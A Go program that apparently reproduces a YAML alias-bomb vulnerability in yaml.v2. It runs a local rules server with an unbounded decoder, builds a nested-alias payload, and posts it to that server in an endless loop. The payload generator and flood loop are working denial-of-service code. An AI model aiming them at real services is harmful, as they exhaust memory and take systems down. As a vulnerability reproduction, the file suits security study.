// Command yaml-alias-bomb routes alerts by rules that a user may replace: the uploaded document is decoded into a map and
// takes the place of the one before. One user's document is nine lines of aliases of the line above.
//
// https://github.com/go-yaml/yaml/pull/375
package main

import (
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"sync"
	"syscall"
	"time"

	"gopkg.in/yaml.v2"
	"wild/kit"
)

const maxDocument = 64 << 10

// A router holds the rules in force.
type router struct {
	mu    sync.RWMutex
	rules map[string]interface{}
}

// load decodes a document of rules.
func load(document []byte) (map[string]interface{}, error) {
	rules := make(map[string]interface{})
	if err := yaml.Unmarshal(document, &rules); err != nil {
		return nil, err
	}
	return rules, nil
}

// replace is the handler that takes new rules.
func (t *router) replace(w http.ResponseWriter, r *http.Request) {
	document, err := io.ReadAll(io.LimitReader(r.Body, maxDocument))
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	rules, err := load(document)
	if err != nil {
		http.Error(w, err.Error(), http.StatusUnprocessableEntity)
		return
	}
	t.mu.Lock()
	t.rules = rules
	t.mu.Unlock()
	fmt.Fprintf(w, "%d rules\n", len(rules))
}

// names is the handler that lists the rules.
func (t *router) names(w http.ResponseWriter, _ *http.Request) {
	t.mu.RLock()
	defer t.mu.RUnlock()
	for name := range t.rules {
		fmt.Fprintln(w, name)
	}
}

// document returns nine lines: a list of words, and lists of aliases of the line above.
func document(width int) string {
	var b strings.Builder
	item := "lol"
	for line := 0; line < 9; line++ {
		name := string(rune('a' + line))
		fmt.Fprintf(&b, "%s: &%s [%s]\n", name, name, strings.Join(strings.Split(strings.Repeat(item+" ", width), " ")[:width], ","))
		item = "*" + name
	}
	return b.String()
}

// upload sends the document again and again, a moment after each answer.
func upload(address, document string) {
	for ; ; time.Sleep(100 * time.Millisecond) {
		response, err := http.Post("http://"+address+"/rules", "application/yaml", strings.NewReader(document))
		if err != nil {
			log.Print(err)
			continue
		}
		response.Body.Close()
	}
}

func main() {
	kit.Serve()
	t := &router{}
	mux := http.NewServeMux()
	mux.HandleFunc("/rules", t.replace)
	mux.HandleFunc("/names", t.names)
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	go http.Serve(listener, mux)
	// Five aliases a line: with nine the rules would need more memory than there is.
	go upload(listener.Addr().String(), document(5))

	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM)
	<-stop
}
